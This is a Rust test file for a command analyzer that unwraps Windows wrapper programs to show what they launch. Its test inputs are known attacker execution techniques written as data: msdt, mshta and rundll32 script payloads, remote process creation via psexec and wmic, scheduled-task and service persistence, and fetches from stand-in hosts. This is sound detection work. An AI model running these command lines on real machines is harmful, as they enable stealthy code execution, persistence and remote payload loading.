//! Every wrapper shows what it starts.

use super::*;
use crate::{path, tokens};

fn of_line(line: &str) -> Vec<String> {
    let (program, arguments) = tokens::split_program(line);
    let name = path::file_name(&path::program(program)).to_lowercase();
    started(&name, arguments, &tokens::split_arguments(arguments), cmd::Shell::default(), &Work::unlimited())
        .list
        .into_iter()
        .map(|s| s.line)
        .collect()
}

#[test]
fn every_wrapper_shows_what_it_starts() {
    for (line, started) in [
        ("cmd /c powershell -c x", vec!["powershell -c x"]),
        ("cmd.exe /c start /min \"\" powershell -c x", vec!["powershell -c x"]),
        ("cmd /c cmd/c powershell", vec!["cmd /c powershell"]),
        ("cmd /c powershell,-c x", vec!["powershell ,-c x"]),
        ("cmd", vec![]),
        ("conhost --headless powershell -c x", vec!["powershell -c x"]),
        ("conhost.exe --headless --width 80 cmd /c x", vec!["cmd /c x"]),
        ("conhost 0x4", vec![]),
        ("conhost -a rx/0 -o x.example:443", vec![]),
        (r"wsl --export Ubuntu D:\b.tar", vec![]),
        (r"psexec @C:\hosts.txt -s cmd /c ver", vec!["cmd /c ver"]),
        ("cmd /c start ms-appinstaller:?source=https://x.example/a", vec![]),
        ("conhost.exe 0xffffffff -ForceV1", vec![]),
        (
            r#"forfiles /p C:\Windows /m notepad.exe /c "powershell -c 0x22x0x22""#,
            vec!["powershell -c \"x\""],
        ),
        (r#"forfiles /c "cmd /c \"a b\"""#, vec![r#"cmd /c "a b""#]),
        ("pcalua -a powershell -c -enc AA", vec!["powershell -enc AA"]),
        (r#"pcalua.exe -a "C:\a b\x.exe""#, vec![r#""C:\a b\x.exe""#]),
        ("wmic process call create \"powershell -c x\"", vec!["powershell -c x"]),
        ("wmic /node:h process call create 'cmd /c x'", vec!["cmd /c x"]),
        ("wmic path Win32_Process call create \"cmd /c x\"", vec!["cmd /c x"]),
        ("wmic os get name", vec![]),
        ("schtasks /create /tn x /sc once /st 00:00 /tr \"powershell -c x\"", vec!["powershell -c x"]),
        ("schtasks /change /tn x /disable", vec![]),
        ("cmd /c echo calc x | cmd", vec!["cmd", "calc x"]),
        (r"explorer.exe C:\x\y.exe", vec![r"C:\x\y.exe"]),
        ("explorer.exe /NoUACCheck", vec![]),
        (r"explorer.exe C:\x", vec![]),
        (r#"explorer.exe /root,"C:\a b\x.exe""#, vec![r#""C:\a b\x.exe""#]),
        (r"explorer.exe C:\x\y.vbs", vec![r"wscript.exe C:\x\y.vbs"]),
        (r"explorer.exe C:\x\y.hta", vec![r"mshta.exe C:\x\y.hta"]),
        (r"explorer.exe C:\x\y.bat", vec![r"C:\x\y.bat"]),
        (r"hh.exe C:\x\y.exe", vec![r"C:\x\y.exe"]),
        ("hh.exe https://x/y.html", vec![]),
        (r"hh.exe -decompile C:\x y.chm", vec![]),
        ("at 12:00 /every:m,t cmd /c x", vec!["cmd /c x"]),
        (r"at \\host 1:30pm powershell -c x", vec!["powershell -c x"]),
        ("at 1 /delete", vec![]),
        ("sc create x binPath= \"cmd /c x\" start= auto", vec!["cmd /c x"]),
        ("sc.exe config x binpath=calc.exe", vec!["calc.exe"]),
        ("sc start x", vec![]),
        ("winrs -r:host -u:a powershell -c x", vec!["powershell -c x"]),
        ("vsjitdebugger.exe powershell -c x", vec!["powershell -c x"]),
        ("nircmd exec hide powershell -c x", vec!["powershell -c x"]),
        ("nircmd.exe elevate cmd /c x", vec!["cmd /c x"]),
        ("nircmd mutesysvolume 1", vec![]),
        ("ssh -oLocalCommand=calc.exe -oPermitLocalCommand=yes h", vec!["calc.exe"]),
        (
            "msdt.exe /id PCWDiagnostic /skip force /param \"IT_BrowseForFile=/../$(iex('x'))/.exe\"",
            vec!["powershell.exe -command iex('x')"],
        ),
        ("wt -w 0 nt powershell -c x", vec!["powershell -c x"]),
        ("bash -c \"powershell.exe -c x\"", vec!["powershell.exe -c x"]),
        ("wsl -e powershell.exe -c x", vec!["powershell.exe -c x"]),
        ("scriptrunner.exe -appvscript powershell -c x", vec!["powershell -c x"]),
        ("runas /user:a /savecred \"powershell -c x\"", vec!["powershell -c x"]),
        (r"psexec \\host -accepteula -s -u a -p b powershell -c x", vec!["powershell -c x"]),
        ("ssh -o ProxyCommand=calc.exe localhost", vec!["calc.exe"]),
        (
            "mshta vbscript:CreateObject(\"Wscript.Shell\").Run(\"powershell -c x\",0)(window.close)",
            vec!["powershell -c x"],
        ),
        (
            "mshta vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"powershell -c \"\"\"\"x y\"\"\"\"\"\", 0:close\")",
            vec!["powershell -c \"x y\""],
        ),
        (
            "mshta.exe \"javascript:new ActiveXObject('WScript.Shell').Run('power'+'shell -c x',0)\"",
            vec!["powershell -c x"],
        ),
        (
            "mshta vbscript:CreateObject(\"Shell.Application\").ShellExecute(\"powershell\",\"-c x\",\"\",\"open\",0)",
            vec!["powershell -c x"],
        ),
        ("mshta http://x/y.hta", vec![]),
        (
            "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";new%20ActiveXObject(\"WScript.Shell\").Run(\"calc\")",
            vec!["calc"],
        ),
        ("rundll32 shell32.dll,ShellExec_RunDLL powershell -c x", vec!["powershell -c x"]),
        ("rundll32.exe zipfldr.dll,RouteTheCall calc.exe", vec!["calc.exe"]),
        ("rundll32.exe url.dll,OpenURL http://x", vec![]),
        ("rundll32.exe /d srrstr.dll,ExecuteScheduledSPPCreation", vec![]),
        ("notepad /c calc", vec![]),
    ] {
        assert_eq!(of_line(line), started, "{line}");
    }
}
